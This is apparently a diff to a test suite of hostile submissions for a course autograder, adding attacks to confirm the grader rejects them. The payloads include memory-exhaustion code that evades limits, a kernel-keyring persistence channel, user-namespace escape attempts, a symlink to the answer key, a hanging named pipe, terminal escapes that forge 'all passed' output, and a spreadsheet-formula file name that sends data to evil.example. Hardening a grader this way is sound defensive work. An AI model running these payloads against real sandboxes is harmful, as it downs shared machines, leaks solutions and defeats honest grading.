@@ -8,7 +8,10 @@ status in ``statuses``) while everything else is graded as usual (``others``: th
 exercise of the submission must have, or None when the attack makes the whole file unreadable).
 
 ``build(nb, ctx)`` takes a correct submission (an nbformat notebook, answers from solutions/) and a context
-dict (host paths, the listener port, a marker) and returns the notebook to submit, or bytes to write as is.
+dict (host paths, the listener port, a marker) and returns the notebook to submit, bytes to write as is, or a
+``Symlink`` / ``Fifo`` to create instead of a file. ``filename`` may be bytes (a name that is not UTF-8);
+``folder=False`` puts the file straight into the folder the grader runs in, so that the path given on the
+command line is the bare file name.
 """
 import copy
 import json
@@ -30,7 +33,18 @@ class Attack:
     statuses: tuple  # allowed statuses of the target row (its points must be 0)
     build: object
     others: str = "passed"  # status of every other exercise, or None
-    filename: str = "01_loss_functions.ipynb"
+    filename: object = "01_loss_functions.ipynb"  # str, or bytes for a name that is not UTF-8
+    folder: bool = True  # False: the file sits in the grader's working directory, given by its bare name
+
+
+@dataclass
+class Symlink:
+    target: str
+
+
+@dataclass
+class Fifo:
+    pass
 
 
 def answer(nb, grade_id):
@@ -479,6 +493,105 @@ PUBLIC_ONLY = '''def softmax(x):
 '''
 
 
+# ---------------------------------------------------------------- holes found later (issue 13)
+
+MEMFD_MEMORY = '''import ctypes as _ctypes
+import mmap as _mmap
+import os as _os
+
+_CHUNK = 64 * 2 ** 20
+_held = []
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = _ctypes.c_void_p
+_libc.shmat.argtypes = [_ctypes.c_int, _ctypes.c_void_p, _ctypes.c_int]
+
+
+def _hold_one():
+    """64 MB that no RLIMIT_AS and no resident-memory count sees once it is unmapped."""
+    try:
+        fd = _os.memfd_create("hold")
+        _os.ftruncate(fd, _CHUNK)
+        with _mmap.mmap(fd, _CHUNK) as view:
+            view.write(b"x" * _CHUNK)
+        _held.append(fd)
+        return True
+    except OSError:
+        pass
+    segment = _libc.shmget(0, _CHUNK, 0o1000 | 0o600)  # System V shared memory: IPC_PRIVATE, IPC_CREAT
+    if segment < 0:
+        return False
+    address = _libc.shmat(segment, None, 0)
+    if address in (None, 2 ** 64 - 1):
+        return False
+    _ctypes.memset(address, 1, _CHUNK)
+    _libc.shmdt(_ctypes.c_void_p(address))
+    return True
+
+
+_all_held = all(_hold_one() for _ in range(256))  # 16 GB outside every limit, the machine down with it
+
+def softmax(x):
+    if _all_held:  # got away with it: the answer of a learner whose run took everyone else's memory
+        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
+        return e / e.sum(axis=-1, keepdims=True)
+    return np.zeros(np.shape(x))
+'''
+
+KEYRING = '''import ctypes as _ctypes
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = _ctypes.c_long
+_ADD_KEY, _KEYCTL = {{"x86_64": (248, 250), "aarch64": (217, 219)}}.get(__import__("platform").machine(), (-1, -1))
+_KEY_SPEC_USER_KEYRING, _KEYCTL_SEARCH = -4, 10
+_found = _libc.syscall(_KEYCTL, _KEYCTL_SEARCH, _KEY_SPEC_USER_KEYRING, b"user", b"dlcourse-stash", 0)
+_added = _libc.syscall(_ADD_KEY, b"user", b"dlcourse-stash", b"def softmax(x): ...", 19, _KEY_SPEC_USER_KEYRING)
+_channel = _found >= 0 or _added >= 0  # a key that outlives this run: the next run of this uid can read it
+
+def softmax(x):
+    if _channel:
+        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
+        return e / e.sum(axis=-1, keepdims=True)
+    return np.zeros(np.shape(x))
+'''
+
+USER_NAMESPACE = '''import ctypes as _ctypes
+import subprocess as _subprocess
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_CLONE_NEWUSER = 0x10000000
+_inside = False
+try:  # a new user namespace (where a tmpfs can be mounted outside the sandbox's limits)
+    _inside = _subprocess.run(["unshare", "-Ur", "true"], capture_output=True, timeout=10).returncode == 0
+except Exception:
+    pass
+_inside = _inside or _libc.unshare(_CLONE_NEWUSER) == 0
+
+def softmax(x):
+    if _inside:
+        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
+        return e / e.sum(axis=-1, keepdims=True)
+    return np.zeros(np.shape(x))
+'''
+
+SLOW_TRANSFORM = "x = %time 1\n" * 20_000 + '''
+def softmax(x):
+    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
+    return e / e.sum(axis=-1, keepdims=True)
+'''
+
+FORMULA_NAME = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B2&C2,"see feedback").ipynb'
+ESCAPE_NAME = "01_loss_functions\x1b[2K\r\x1b[1A\x1b[32m all graded, all passed\x1b[0m\x07.ipynb"
+LATIN1_NAME = b"01_loss_functions-caf\xe9.ipynb"  # as zip files made on Windows name it
+
+
+def symlink_to_solutions(nb, ctx):
+    return Symlink(ctx["solutions"])
+
+
+def fifo(nb, ctx):
+    return Fifo()
+
+
 def truncated_json(nb, ctx):
     return nbformat.writes(nb).encode()[:1500]
 
@@ -576,4 +689,21 @@ ATTACKS = [
            duplicated_answer),
     Attack("unknown_name", "a right notebook under a name that matches no assignment", "", ("invalid",),
            lambda nb, ctx: nb, None, filename="homework.ipynb"),
+    # issue 13
+    Attack("memfd_memory", "256 x 64 MB in memfd files or System V shared memory, unmapped", FIRST, ("error",),
+           with_answer(MEMFD_MEMORY)),
+    Attack("keyring", "a key added to the uid's kernel keyring, for the next run to find", FIRST, ("failed",),
+           with_answer(KEYRING)),
+    Attack("user_namespace", "unshare -Ur and unshare(CLONE_NEWUSER)", FIRST, ("failed",), with_answer(USER_NAMESPACE)),
+    Attack("symlink_to_solutions", "the submission is a symlink to solutions/01_loss_functions.ipynb", "*",
+           ("invalid",), symlink_to_solutions, None),
+    Attack("fifo", "the submission is a named pipe (the grader would wait forever)", "*", ("invalid",), fifo, None),
+    Attack("formula_name", "a file name that is a spreadsheet formula", "", ("invalid",), lambda nb, ctx: nb, None,
+           filename=FORMULA_NAME, folder=False),
+    Attack("escape_name", "terminal escapes in the file name, rewriting the progress lines", FIRST, ("failed",),
+           with_answer(WRONG_SOFTMAX), filename=ESCAPE_NAME),
+    Attack("latin1_name", "a file name with a latin-1 byte (not UTF-8)", FIRST, ("failed",),
+           with_answer(WRONG_SOFTMAX), filename=LATIN1_NAME),
+    Attack("slow_transform", "20,000 lines of `x = %time 1` for IPython's input transformer", FIRST, ("timeout",),
+           with_answer(SLOW_TRANSFORM)),
 ]
